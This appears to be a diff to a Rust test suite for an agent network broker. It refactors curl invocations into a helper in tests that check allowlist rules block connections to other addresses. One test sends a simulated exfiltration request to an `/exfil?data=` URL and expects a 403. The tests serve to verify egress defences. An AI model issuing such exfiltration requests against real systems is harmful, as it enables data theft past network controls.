@@ -659,6 +659,19 @@ fn upstream_echo_of_the_secret_is_scrubbed_from_headers_and_body() {
     w.assert_no_secret_in_logs();
 }
 
+/// curl's arguments for one call through the agent's own resolution (`--resolve`), no proxy,
+/// with `extra` options before the URL.
+fn curl_args(resolve: &str, extra: &[&str], url: &str) -> Vec<String> {
+    let mut argv: Vec<String> = ["curl", "-sS", "--noproxy", "*", "--max-time", "20"]
+        .into_iter()
+        .map(String::from)
+        .collect();
+    argv.extend(["--resolve".to_string(), resolve.to_string()]);
+    argv.extend(extra.iter().map(|s| s.to_string()));
+    argv.push(url.to_string());
+    argv
+}
+
 /// A name-matched plain HTTP rule reaches only the name's own addresses: an agent that dials
 /// another address and names the allowed host in `Host` gets a 403, and the server at that
 /// address receives nothing (issue 12.2; brokerd's resolver, the test's own, gives the name
@@ -676,19 +689,11 @@ fn a_name_matched_plain_http_rule_reaches_only_the_names_addresses() {
             ),
         )]
     });
-    let argv: Vec<String> = vec![
-        "curl".into(),
-        "-sS".into(),
-        "--noproxy".into(),
-        "*".into(),
-        "--max-time".into(),
-        "20".into(),
-        "--resolve".into(),
-        format!("{OTHER}:{port}:127.0.0.3"),
-        "-w".into(),
-        "%{stderr}ABTEST status=%{http_code}\\n".into(),
-        format!("http://{OTHER}:{port}/exfil?data=abtest"),
-    ];
+    let argv = curl_args(
+        &format!("{OTHER}:{port}:127.0.0.3"),
+        &["-w", "%{stderr}ABTEST status=%{http_code}\\n"],
+        &format!("http://{OTHER}:{port}/exfil?data=abtest"),
+    );
     let run = clients::run_in_cgroup(&w.broker, &w.agent, "curl (plain http)", &[], &argv);
     let stderr = String::from_utf8_lossy(&run.output.stderr).into_owned();
     assert!(stderr.contains("ABTEST status=403"), "{}", run.show());
@@ -727,18 +732,11 @@ fn a_name_matched_tcp_rule_reaches_only_the_names_addresses() {
     let hello = |ip: &str, port: u16| {
         // curl sends a ClientHello with SNI other.example.test to `ip`; what follows fails
         // either way (the servers speak plain HTTP), the question is who receives it.
-        let argv: Vec<String> = vec![
-            "curl".into(),
-            "-sS".into(),
-            "-k".into(),
-            "--noproxy".into(),
-            "*".into(),
-            "--max-time".into(),
-            "10".into(),
-            "--resolve".into(),
-            format!("{OTHER}:{port}:{ip}"),
-            format!("https://{OTHER}:{port}/"),
-        ];
+        let argv = curl_args(
+            &format!("{OTHER}:{port}:{ip}"),
+            &["-k"],
+            &format!("https://{OTHER}:{port}/"),
+        );
         clients::run_in_cgroup(&w.broker, &w.agent, "curl (tls passthrough)", &[], &argv)
     };
     let run = hello("127.0.0.3", out_port);
